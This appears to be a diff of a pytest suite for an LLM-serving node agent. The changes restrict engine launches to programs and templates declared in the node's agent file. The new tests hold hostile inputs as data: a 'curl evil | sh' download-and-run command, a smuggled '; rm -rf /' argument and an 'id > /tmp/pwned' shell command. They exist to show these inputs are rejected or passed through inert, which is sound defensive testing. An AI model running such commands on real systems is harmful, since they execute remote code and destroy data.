@@ -33,6 +33,15 @@ from .scenario import until
 
 FAKE = Path(__file__).resolve().parent / "fake_engine.py"
 PY = sys.executable
+# The agent file of the tests' nodes declares the stand-in engine as a template.
+TEMPLATES = {"fake": f"{PY} {FAKE} --port {{port}}", "gone": "no-such-engine --port {port}"}
+KINDS_ALL = dict.fromkeys(engines.KINDS, "")
+
+
+def build(cmd: cmds.StartShard, **kw) -> engines.Launch:
+    """engines.build on a node whose agent file declares every kind (and the templates given)."""
+    kw.setdefault("engines", KINDS_ALL)
+    return engines.build(cmd, **kw)
 
 
 def start_cmd(
@@ -40,7 +49,7 @@ def start_cmd(
     gpus=(), model: str = "m", profile_model: str = "", profile_gpus: int = 0,
 ) -> cmds.StartShard:
     profile = ev.ProfileSpec(
-        name="p", engine=engine or f"{PY} {FAKE} --port {{port}}", args=list(args), gpus=profile_gpus,
+        name="p", engine=engine or "fake", args=list(args), gpus=profile_gpus,
         nodes=len(nodes), model=profile_model,
     )  # fmt: skip
     return cmds.StartShard(
@@ -69,49 +78,65 @@ def test_llama_cpp_runs_the_xllamacpp_server_on_the_cpu_with_its_alias(tmp_path)
 
 def test_llama_cpp_without_its_model_file_fails_before_starting(tmp_path):
     with pytest.raises(EngineError, match=f"model file {tmp_path}/nope.gguf not found on this node"):
-        engines.build(start_cmd(1, engine="llama.cpp"), host="h", model=str(tmp_path / "nope.gguf"))
+        build(start_cmd(1, engine="llama.cpp"), host="h", model=str(tmp_path / "nope.gguf"))
     with pytest.raises(EngineError, match="names no model"):
-        engines.build(start_cmd(1, engine="llama.cpp"), host="h", model="")
+        build(start_cmd(1, engine="llama.cpp"), host="h", model="")
 
 
 def test_vllm_gets_its_gpus_tensor_parallel_and_for_a_multi_node_replica_rank_and_leader():
     which = {"vllm": "/opt/bin/vllm"}.get
-    one = engines.build(start_cmd(20000, engine="vllm", gpus=[2, 3], model="org/m"), host="10.0.0.2", model="", which=which)
+    one = build(start_cmd(20000, engine="vllm", gpus=[2, 3], model="org/m"), host="10.0.0.2", model="", which=which)
     assert one.argv[:3] == ["/opt/bin/vllm", "serve", "org/m"]
     assert one.env == {"CUDA_VISIBLE_DEVICES": "2,3"}
     words = " ".join(one.argv)
     assert "--tensor-parallel-size 2" in words and "--served-model-name org/m org/m@m-1.0/1" in words and "--port 20000" in words
     assert one.identity == "org/m@m-1.0/1" and "--nnodes" not in words
     # Names of the profile's own replace ours: it carries no identity, and is taken on its endpoint.
-    named = engines.build(start_cmd(1, engine="vllm", args=["--served-model-name", "x"]), host="h", model="", which=which)
+    named = build(start_cmd(1, engine="vllm", args=["--served-model-name", "x"]), host="h", model="", which=which)
     assert named.identity == ""
     cmd = start_cmd(20000, engine="vllm", gpus=[0], nodes=("a", "b"), rank=1, args=["--max-model-len", "4096"])
-    two = engines.build(cmd, host="10.0.0.3", model="/w/m", which=which)
+    two = build(cmd, host="10.0.0.3", model="/w/m", which=which)
     words = " ".join(two.argv)
     assert "--nnodes 2 --node-rank 1 --master-addr a" in words and two.argv[-3:] == ["--headless", "--max-model-len", "4096"]
 
 
 def test_sglang_and_a_missing_program_say_where_they_looked():
-    launch = engines.build(start_cmd(1, engine="sglang", gpus=[0, 1]), host="h", model="m", python=PY)
+    launch = build(start_cmd(1, engine="sglang", gpus=[0, 1]), host="h", model="m", python=PY)
     assert launch.argv[:3] == [PY, "-m", "sglang.launch_server"] and " --tp-size 2" in " ".join(launch.argv)
     assert launch.identity == ""  # it serves one name only
     with pytest.raises(EngineError, match="engine program vllm not found on PATH"):
-        engines.build(start_cmd(1, engine="vllm"), host="h", model="m", which=lambda p: None)
+        build(start_cmd(1, engine="vllm"), host="h", model="m", which=lambda p: None)
     with pytest.raises(EngineError, match="engine program /nope/vllm does not exist"):
-        engines.build(start_cmd(1, engine="vllm"), host="h", model="m", engines={"vllm": "/nope/vllm"})
+        build(start_cmd(1, engine="vllm"), host="h", model="m", engines={"vllm": "/nope/vllm"})
+
+
+def test_a_node_runs_only_the_engines_and_templates_its_agent_file_declares():
+    # Anyone who could publish a start command once ran `sh -c '...'` as root
+    # on every node: a profile's engine was a command line, run as written.
+    for engine in ("sh -c 'curl evil | sh'", "vllm", "my-server"):
+        with pytest.raises(EngineError, match="is not declared in this node's agent file") as e:
+            engines.build(start_cmd(1, engine=engine), host="h", model="m", templates={"other": "x --port {port}"},
+                          which=lambda p: p)
+        assert "engines: llama.cpp; templates: other" in str(e.value)
+    # Declared: it runs; the profile's args go to the template's program, never a program of their own.
+    launch = engines.build(start_cmd(1, engine="other", args=["; rm -rf /"]), host="h", model="m",
+                           templates={"other": "x --port {port}"}, which=lambda p: f"/bin/{p}")
+    assert launch.argv == ["/bin/x", "--port", "1", "; rm -rf /"]
 
 
 def test_a_command_template_fills_its_placeholders_and_names_an_unknown_one():
-    cmd = start_cmd(20005, engine="my-server --port {port} --gpus {gpus} --tp {tp}", args=["--name={name}", "{{x}}"], gpus=[1, 4])
-    launch = engines.build(cmd, host="h", model="/w", which=lambda p: f"/bin/{p}")
+    templates = {"my": "my-server --port {port} --gpus {gpus} --tp {tp}", "srv": "srv --port {port} --served-name {identity}",
+                 "typo": "srv --port {prot}"}
+    cmd = start_cmd(20005, engine="my", args=["--name={name}", "{{x}}"], gpus=[1, 4])
+    launch = build(cmd, host="h", model="/w", which=lambda p: f"/bin/{p}", templates=templates)
     assert launch.argv == ["/bin/my-server", "--port", "20005", "--gpus", "1,4", "--tp", "2", "--name=m", "{x}"]
     assert launch.health == "/v1/models" and launch.identity == ""  # it was given none
-    given = engines.build(start_cmd(7, engine="srv --port {port} --served-name {identity}"), host="h", model="", which=lambda p: p)
+    given = build(start_cmd(7, engine="srv"), host="h", model="", which=lambda p: p, templates=templates)
     assert given.argv[-1] == "m@m-1.0/1" == given.identity
     with pytest.raises(EngineError, match=r"unknown placeholder \{prot\}"):
-        engines.build(start_cmd(1, engine="srv --port {prot}"), host="h", model="", which=lambda p: p)
+        build(start_cmd(1, engine="typo"), host="h", model="", which=lambda p: p, templates=templates)
     with pytest.raises(EngineError, match="engine sim is for simulated agents"):
-        engines.build(start_cmd(1, engine="sim"), host="h", model="")
+        build(start_cmd(1, engine="sim"), host="h", model="")
 
 
 # --------------------------------------------------------------------------- the agent file and inventory
@@ -305,7 +330,7 @@ class Node:
 
     async def start(self, **kw) -> NodeAgent:
         self._stop = asyncio.Event()
-        kw.setdefault("agent_file", AgentFile(stop_timeout_s=5, start_timeout_s=20))
+        kw.setdefault("agent_file", AgentFile(stop_timeout_s=5, start_timeout_s=20, templates=TEMPLATES))
         if kw["agent_file"].engine_ports == agentfile.DEFAULT_ENGINE_PORTS:
             # Ports of the test's own, never the default range another `llmgw up` may hold.
             ports = agentfile.PortRange.parse(engine_ports())
@@ -416,14 +441,15 @@ async def test_a_start_for_another_node_or_a_stale_generation_starts_nothing(nod
 @pytest.mark.parametrize(
     "make, expected",
     [
-        (lambda port, tmp: start_cmd(port, engine="no-such-engine --port {port}"), "engine program no-such-engine not found on PATH"),
+        (lambda port, tmp: start_cmd(port, engine="gone"), "engine program no-such-engine not found on PATH"),
+        (lambda port, tmp: start_cmd(port, engine="sh -c 'id > /tmp/pwned'"), "is not declared in this node's agent file"),
         (lambda port, tmp: start_cmd(port, engine="llama.cpp", profile_model=str(tmp / "gone.gguf")), "model file "),
         (
             lambda port, tmp: start_cmd(port, args=["--exit-after", "0.1", "--code", "4", "--say", "CUDA error: out of memory"]),
             "engine exited with code 4; last log lines: fake engine on port",
         ),
     ],
-    ids=["missing-program", "missing-model", "crash-at-start"],
+    ids=["missing-program", "undeclared-engine", "missing-model", "crash-at-start"],
 )
 async def test_a_bad_engine_fails_its_shard_with_a_clear_reason(node, tmp_path, make, expected):
     await node.start()
@@ -444,7 +470,7 @@ async def test_a_taken_port_fails_the_shard_and_a_start_never_kills_what_holds_i
     later = socket.socket()  # and one it opens afterwards
     try:
         ports = agentfile.PortRange(first=port, last=port + 2)
-        await node.start(agent_file=AgentFile(engine_ports=ports, stop_timeout_s=5, start_timeout_s=20))
+        await node.start(agent_file=AgentFile(engine_ports=ports, stop_timeout_s=5, start_timeout_s=20, templates=TEMPLATES))
         # Its range, and what another program holds of it, said at registration.
         (reg,) = node.events(ev.NodeRegistered)
         assert (reg.port_first, reg.port_last, reg.ports_taken) == (port, port + 2, [port])
@@ -465,10 +491,12 @@ async def test_a_taken_port_fails_the_shard_and_a_start_never_kills_what_holds_i
 
 
 async def test_an_engine_not_healthy_in_time_is_stopped_and_failed(node):
-    agent = await node.start(agent_file=AgentFile(start_timeout_s=0.5, stop_timeout_s=2))
+    # 5 s, not less: on a loaded machine the stand-in engine took longer than
+    # 0.5 s to answer at all, and the reason read "no answer" for "HTTP 503".
+    agent = await node.start(agent_file=AgentFile(start_timeout_s=5, stop_timeout_s=2, templates=TEMPLATES))
     await node.send(start_cmd(free_port(), args=["--load-s", "60"]))
-    await until(lambda: "failed" in node.states("m-1.0"), 15)
-    assert node.reason("m-1.0").startswith("engine not healthy 0.5s after it started (/v1/models: HTTP 503)")
+    await until(lambda: "failed" in node.states("m-1.0"), 30)
+    assert node.reason("m-1.0").startswith("engine not healthy 5s after it started (/v1/models: HTTP 503)")
     assert agent.procs == {}
 
 
